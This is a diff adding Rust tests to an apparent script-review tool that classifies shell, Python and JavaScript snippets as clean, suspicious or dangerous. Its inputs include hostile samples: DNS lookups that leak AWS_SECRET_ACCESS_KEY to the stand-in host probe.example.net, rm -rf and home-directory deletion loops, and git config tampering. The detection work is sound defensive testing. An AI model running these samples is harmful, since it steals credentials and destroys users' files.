@@ -7263,3 +7263,233 @@ fn functions_called_without_arguments_see_the_variables_set_since() {
     ];
     check_all(rows);
 }
+
+/// A stand-in for the command guard's deny of any change outside the project: `rm`, `mv`,
+/// `cp`, `chmod`, `truncate`, `find ... -delete` and redirects whose paths lie in the home
+/// directory outside the project are denied, with the guard's concept and the words it read.
+#[derive(Debug)]
+struct OutsideChangeDenies;
+
+impl terraphim_script_review::CommandJudge for OutsideChangeDenies {
+    fn judge(&self, command: &str, _: &Context) -> terraphim_script_review::CommandVerdict {
+        use terraphim_script_review::{CommandTier, CommandVerdict};
+        let mut words: Vec<String> = Vec::new();
+        for w in command.split_whitespace() {
+            let w = w.trim_matches(['\'', '"']);
+            match w.strip_prefix('>') {
+                Some("") => {}
+                Some(target) => words.push(target.trim_matches(['\'', '"']).to_owned()),
+                None => words.push(w.to_owned()),
+            }
+        }
+        let changes = words.first().is_some_and(|p| {
+            ["rm", "mv", "cp", "chmod", "truncate", "printf", "echo"].contains(&p.as_str())
+                || p == "find" && words.iter().any(|w| w == "-delete")
+        });
+        let outside = |w: &String| {
+            (w.starts_with("~/") || w.starts_with("$HOME") || w.starts_with("/home/dev/"))
+                && !w.starts_with("/home/dev/project")
+        };
+        let redirects = command.contains('>');
+        let printer = words.first().is_some_and(|p| p == "printf" || p == "echo");
+        match changes && (!printer || redirects) && words[1..].iter().any(outside) {
+            true => CommandVerdict {
+                tier: CommandTier::Deny,
+                reason: "changes files outside the project".into(),
+                rule: "delete or change outside the project".into(),
+                pattern: None,
+                operands: words[1..].to_vec(),
+            },
+            false => CommandVerdict::allow(),
+        }
+    }
+
+    fn identity(&self) -> String {
+        "outside-change-denies".into()
+    }
+}
+
+/// A named tool's own configuration or cache directory (`~/.config/<tool>`, `~/.cache/<tool>`)
+/// is where that tool alone looks: a change there that the guard denies only for lying outside
+/// the project is judged by the review's own rules, as in any language. The tool's settings
+/// written through a temp file, made private and backed up are clean; code written there, the
+/// directory deleted whole, a change made by a program the review does not model, a directory
+/// shared with every other program (git, an editor, systemd) or every tool's cache stay flagged.
+#[test]
+fn a_tools_own_config_and_cache_directories() {
+    let writer = |dir: &str, last: &str| {
+        format!(
+            "#!/bin/sh\nset -eu\ndir=\"$HOME/{dir}\"\nmkdir -p \"$dir\"\nchmod 700 \"$dir\"\n\
+             tmp=\"$(mktemp \"$dir/.config.XXXXXX\")\"\nprintf 'region = north\\n' > \"$tmp\"\n\
+             chmod 600 \"$tmp\"\nif [ -f \"$dir/config\" ]; then cp -p \"$dir/config\" \"$dir/config.bak\"; fi\n{last}\n"
+        )
+    };
+    let own = writer(".config/quillnote", "mv \"$tmp\" \"$dir/config\"");
+    let shared = writer(".config/git", "mv \"$tmp\" \"$dir/config\"");
+    let code = writer(".config/quillnote", "cp ./hooks/start.sh \"$dir/start.sh\"");
+    let wiped = writer(".config/quillnote", "rm -rf \"$dir\"");
+    let rows: Vec<(Language, &str, Verdict, &str)> = vec![
+        (Sh, &own, Clean, ""),
+        (Sh, &shared, Dangerous, "config-tampering"),
+        (
+            Sh,
+            "#!/bin/sh\nchmod 700 \"$HOME/.config/nvim\"\n",
+            Dangerous,
+            "guard-rule",
+        ),
+        (Sh, &code, Suspicious, "outside-write"),
+        (Sh, &wiped, Dangerous, "destructive"),
+        (
+            Sh,
+            "#!/bin/sh\nfind \"$HOME/.cache/quillnote\" -name '*.json' -mtime +14 -delete\n",
+            Clean,
+            "",
+        ),
+        (
+            Sh,
+            "#!/bin/sh\nfind \"$HOME/.cache\" -name '*.json' -mtime +14 -delete\n",
+            Dangerous,
+            "guard-rule",
+        ),
+        // A program the review does not model: confined, not refused, not clean.
+        (
+            Sh,
+            "#!/bin/sh\ntruncate -s 0 \"$HOME/.config/quillnote/history.json\"\n",
+            Suspicious,
+            "guard-rule",
+        ),
+    ];
+    check_all_judged(&rows, Some(&OutsideChangeDenies));
+}
+
+/// The settings file of a tool's own configuration directory is data also without an
+/// extension (`config`, `settings`), with what an atomic replace or a backup adds to its name;
+/// a script or a file of another name written there is not.
+#[test]
+fn a_tools_settings_file_without_an_extension() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Py,
+            "from pathlib import Path\nd = Path.home() / '.config' / 'quillnote'\nd.mkdir(parents=True, exist_ok=True)\n(d / 'config').write_text('region = north\\n')\n(d / 'config.bak').write_text('region = south\\n')\n",
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "from pathlib import Path\nd = Path.home() / '.config' / 'quillnote'\n(d / 'config.sh').write_text('region=north\\n')\n",
+            Suspicious,
+            "outside-write",
+        ),
+        (
+            Py,
+            "from pathlib import Path\nd = Path.home() / '.config' / 'git'\n(d / 'config').write_text('[user]\\nname = x\\n')\n",
+            Dangerous,
+            "config-tampering",
+        ),
+    ];
+    check_all(rows);
+}
+
+/// `python -m http.server` bound to a loopback address and serving a directory of the project
+/// (or the one it runs in) serves only this machine what the project holds: no finding. The
+/// default (every interface), `0.0.0.0`, or the home directory served stay flagged.
+#[test]
+fn a_static_server_on_loopback_serving_the_project() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Sh,
+            "#!/bin/sh\npython3 -m http.server 8100 --bind 127.0.0.1 --directory build/site &\n",
+            Clean,
+            "",
+        ),
+        (
+            Sh,
+            "#!/bin/sh\npython3 -m http.server 8100 -b ::1\n",
+            Clean,
+            "",
+        ),
+        (
+            Sh,
+            "#!/bin/sh\npython3 -m http.server 8100 --directory build/site &\n",
+            Suspicious,
+            "network",
+        ),
+        (
+            Sh,
+            "#!/bin/sh\npython3 -m http.server 8100 --bind 0.0.0.0 --directory build/site\n",
+            Suspicious,
+            "network",
+        ),
+        (
+            Sh,
+            "#!/bin/sh\npython3 -m http.server 8100 --bind=127.0.0.1 --directory \"$HOME\"\n",
+            Suspicious,
+            "network",
+        ),
+    ];
+    check_all(rows);
+}
+
+/// `enumerate(seq)` gives pairs of a count and each element: the paths a listing put in a list
+/// stay known through `for i, (mtime, path) in enumerate(entries)`, so a project directory's
+/// entries pruned are clean and the home directory's stay a delete outside the working tree.
+#[test]
+fn enumerated_lists_keep_their_elements() {
+    let lister = |dir: &str| {
+        format!(
+            "import shutil\nfrom pathlib import Path\nBASE = {dir}\nentries = []\n\
+             for child in BASE.iterdir():\n    entries.append((child.stat().st_mtime, child))\n\
+             for i, (mtime, path) in enumerate(sorted(entries)):\n    if i >= 5:\n        shutil.rmtree(path)\n"
+        )
+    };
+    let project = lister("Path(__file__).resolve().parents[1] / 'build' / 'bundles'");
+    let home = lister("Path.home()");
+    let rows: Vec<(Language, &str, Verdict, &str)> = vec![
+        (Py, &project, Clean, ""),
+        (Py, &home, Dangerous, "destructive"),
+        // The elements keep what the list holds as a whole: a secret's chunks sent in names.
+        (
+            Py,
+            "import os, socket
+raw = os.environ.get('AWS_SECRET_ACCESS_KEY', '').encode().hex()
+             parts = [raw[i:i + 40] for i in range(0, len(raw), 40)] or ['none']
+             for n, part in enumerate(parts):
+    socket.gethostbyname(f'{part}.{n}.probe.example.net')
+",
+            Dangerous,
+            "exfiltration",
+        ),
+    ];
+    check_all(&rows);
+}
+
+/// A JavaScript array's `entries()` gives pairs of an index and each element, as Python's
+/// `enumerate` does: entries of a project cache listed into objects and pruned are clean, the
+/// home directory's stay a delete outside the working tree, and a secret's pieces stay secret.
+#[test]
+fn javascript_array_entries_keep_their_elements() {
+    let pruner = |base: &str| {
+        format!(
+            "const fs = require('fs');\nconst path = require('path');\nconst os = require('os');\n\
+             const BASE = {base};\nconst out = [];\n\
+             for (const name of fs.readdirSync(BASE)) {{\n  const dir = path.join(BASE, name);\n  out.push({{ dir, mtime: fs.statSync(dir).mtimeMs }});\n}}\n\
+             const all = out.sort((a, b) => b.mtime - a.mtime);\n\
+             for (const [i, e] of all.entries()) {{\n  if (i < 3) continue;\n  fs.rmSync(e.dir, {{ recursive: true, force: true }});\n}}\n"
+        )
+    };
+    let project = pruner("path.join(path.resolve(__dirname, '..'), '.cache', 'bundles')");
+    let home = pruner("os.homedir()");
+    let rows: Vec<(Language, &str, Verdict, &str)> = vec![
+        (Js, &project, Clean, ""),
+        (Js, &home, Dangerous, "destructive"),
+        (
+            Js,
+            "const dns = require('dns');\nconst hex = Buffer.from(process.env.AWS_SECRET_ACCESS_KEY || '').toString('hex');\n\
+             const parts = [hex.slice(0, 40), hex.slice(40)];\n\
+             for (const [i, p] of parts.entries()) {\n  dns.lookup(`${p}.${i}.probe.example.net`, () => {});\n}\n",
+            Dangerous,
+            "exfiltration",
+        ),
+    ];
+    check_all(&rows);
+}
